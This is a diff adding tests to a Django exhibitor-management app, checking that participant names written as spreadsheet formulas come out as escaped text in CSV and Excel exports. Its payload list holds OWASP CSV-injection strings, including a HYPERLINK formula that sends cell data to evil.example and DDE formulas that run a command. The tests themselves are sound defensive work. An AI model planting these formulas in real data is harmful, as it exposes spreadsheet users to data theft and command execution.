@@ -280,3 +280,54 @@ def test_participants_export_as_excel(client, organiser):
         ["nama", "stan"],
         ["Batik Sekar Jagad", None],
     ]
+
+
+# The OWASP CSV-injection payloads, and the ways a cell can start a formula.
+FORMULAE = [
+    '=HYPERLINK("https://evil.example/?x="&A1,"Klik")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1;=2+2",
+]
+
+
+def export_participants(client, edition, file_format, fields):
+    return client.post(
+        reverse("admin:exhibitors_application_export") + f"?edition__id__exact={edition.pk}",
+        {
+            "format": file_format,
+            "resource": "0",
+            **{f"participantresource_{name}": "on" for name in fields},
+        },
+    )
+
+
+@pytest.mark.parametrize("payload", FORMULAE)
+def test_a_name_written_as_a_formula_is_exported_as_text(client, organiser, payload):
+    edition = EditionFactory()
+    ApplicationFactory(edition=edition, exhibitor__name=payload, exhibitor__whatsapp="")
+
+    as_csv = export_participants(client, edition, CSV_FORMAT, ["name"])
+    as_xlsx = export_participants(client, edition, XLSX_FORMAT, ["name"])
+
+    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
+    assert rows[1] == ["'" + payload]
+    cell = openpyxl.load_workbook(io.BytesIO(as_xlsx.content)).active["A2"]
+    # Excel files keep line breaks as \n, whatever the text had.
+    assert (cell.value, cell.data_type) == ("'" + payload.replace("\r", "\n"), "s")
+
+
+def test_phone_numbers_and_numbers_stay_readable_in_exports(client, organiser):
+    edition = EditionFactory()
+    ApplicationFactory(
+        edition=edition, exhibitor__name="-Batik-", exhibitor__whatsapp="+6281234567890"
+    )
+
+    as_csv = export_participants(client, edition, CSV_FORMAT, ["name", "whatsapp"])
+
+    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
+    assert rows[1] == ["'-Batik-", "+6281234567890"]
